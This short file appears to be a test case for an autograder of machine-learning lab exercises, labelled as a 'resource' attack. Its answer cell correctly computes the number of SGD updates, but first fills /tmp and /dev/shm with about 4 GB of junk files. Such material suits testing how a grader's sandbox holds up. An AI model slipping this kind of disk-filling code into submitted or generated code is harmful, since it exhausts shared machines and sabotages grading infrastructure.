# /// attack
# title = "Fill the temporary folders"
# lab = "01-sgd"
# class = "resource"
# fails = []
# flags = []
# ///

# %% role="answer" id="num-updates"

for name in ("/tmp/@MARK@", "/dev/shm/@MARK@"):
    try:
        for number in range(100):
            with open(f"{name}-{number}", "wb") as file:
                file.write(bytes(20_000_000))
    except OSError as error:
        print(error)


def num_updates(num_samples, batch_size, num_epochs):
    return num_epochs * -(-num_samples // batch_size)
